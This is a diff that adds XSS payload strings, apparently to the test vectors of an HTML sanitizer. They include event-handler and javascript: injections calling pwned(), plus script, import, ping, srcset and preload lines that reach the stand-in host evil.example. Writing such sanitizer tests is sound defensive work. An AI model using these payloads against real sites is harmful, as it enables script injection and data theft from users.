@@ -56,6 +56,18 @@ const odd = [
   "<dialog open onclose=pwned()><form method=dialog><button>x",
   "<button popovertarget=x>x</button><div id=x popover onbeforetoggle=pwned()>x</div>",
   "<details ontoggle=pwned() open>x",
+  "<svg><set attributeName=onmouseover to=pwned()>",
+  "<svg><foreignObject><body onload=pwned()>",
+  "<svg><style><img src=x onerror=pwned()></style>",
+  "<table><td background=javascript:pwned()>",
+  "<frameset onload=pwned()>",
+  "<a href=\"//evil.example\" ping=\"//evil.example/p\">x</a>",
+  "<img srcset=\"//evil.example/x 1x\">",
+  "<link rel=preload as=image href=//evil.example/x>",
+  "<script>fetch('//evil.example')</script>",
+  "<script type=module>import '//evil.example/x.js'</script>",
+  "<script src=data:text/javascript,pwned()></script>",
+  "<style onload=pwned()></style>",
   "<option value=\"</option></select><img src=x onerror=pwned()>\">",
 ];
 
